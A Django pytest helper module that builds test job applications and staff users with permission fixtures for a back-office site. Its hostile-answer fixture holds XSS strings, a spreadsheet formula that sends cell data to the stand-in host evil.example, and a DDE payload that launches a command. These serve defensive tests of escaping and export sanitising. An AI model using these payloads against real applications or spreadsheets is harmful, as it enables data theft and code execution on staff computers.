"""Applications and staff people for the back-office tests, made through the real services
(start, save answers, upload, consent, submit), so the rows look exactly like the site's own."""

from functools import cache

import pytest

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile

from campus.applications import services
from campus.applications.models import Application
from campus.core.files import validate_document

from .conftest import GOOD_ANSWERS, pdf_bytes

ANSWERS = {key: value for step, values in GOOD_ANSWERS.items() if step not in ("cv", "consent")
           for key, value in values.items()}
ANSWERS.update({"cluster_members": 140, "years_as_manager": 4, "meetups_might_miss": []})

# Text an attacker could type into an application: markup for the pages, formulas for the spreadsheets.
SCRIPT = '<script>alert("owned")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
HOSTILE_ANSWERS = {
    "first_name": SCRIPT,
    "last_name": "Mallory",
    "organisation": FORMULA,
    "role": "+1+cmd|' /C calc'!A0",
    "languages": "-2+3",
    "cluster_name": "@SUM(1+1)",
    "cluster_sector": "\tTabbed",
    "project_management_description": "\rCarriage return",
    "motivation_letter": '<img src=x onerror="alert(1)"> I mean it.',
}


@cache
def _cv_bytes() -> bytes:
    return pdf_bytes("CV")


def make_application(call, *, email: str, submit: bool = True, cv: bool = True, **answers) -> Application:
    """An application of a new applicant with ``email``; ``answers`` override the good ones."""
    User = get_user_model()
    values = {**ANSWERS, "email": email, **answers}
    user = User.objects.create_user(email=email, password=None,
                                    full_name=f"{values.get('first_name', '')} {values.get('last_name', '')}".strip())
    application = services.start_application(call=call, applicant=user)
    application = services.save_answers(application=application, step="availability", values=values, actor=user)
    if cv:
        upload = SimpleUploadedFile("cv.pdf", _cv_bytes(), content_type="application/pdf")
        detected = validate_document(upload)
        services.save_document(application=application, kind="cv", detected=detected,
                               content=upload, actor=user)
    if submit:
        services.record_consent(application=application, version=call.privacy_version, actor=user)
        application = services.submit(application=application, actor=user)
    return Application.objects.get(pk=application.pk)


def make_staff(email: str, *codenames: str, group: str | None = None, is_staff: bool = True):
    """A staff member with the given applications permissions (or the members of ``group``)."""
    User = get_user_model()
    user = User.objects.create_user(email=email, password="a-long-staff-password-1", is_staff=is_staff,
                                    full_name=email.split("@")[0].replace(".", " ").title())
    if codenames:
        user.user_permissions.add(*Permission.objects.filter(content_type__app_label="applications",
                                                             codename__in=codenames))
    if group:
        user.groups.add(Group.objects.get(name=group))
    return user


# --- fixtures (import them into a test module to use them) -------------------------------------

# Personal data that must never reach anyone without the role.
SECRET_NAME = ("Zelda", "Secretname")
SECRET_EMAIL = "zelda.secret@example.org"
SECRET_ORGANISATION = "Confidential Cluster Oy"


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def secret_application(call, media):
    return make_application(call, email=SECRET_EMAIL, first_name=SECRET_NAME[0], last_name=SECRET_NAME[1],
                            organisation=SECRET_ORGANISATION)


@pytest.fixture
def hostile_application(call, media):
    return make_application(call, email="mallory@example.org", **HOSTILE_ANSWERS)


@pytest.fixture
def manager(db):
    """A team member with the role and the right to manage: a member of the Programme team group."""
    return make_staff("team.manager@example.org", group="Programme team")


@pytest.fixture
def viewer(db):
    """Staff who may read applications but not change them."""
    return make_staff("team.viewer@example.org", "view_application", "view_document")


@pytest.fixture
def manager_client(client, manager):
    client.force_login(manager)
    return client


@pytest.fixture
def viewer_client(client, viewer):
    client.force_login(viewer)
    return client
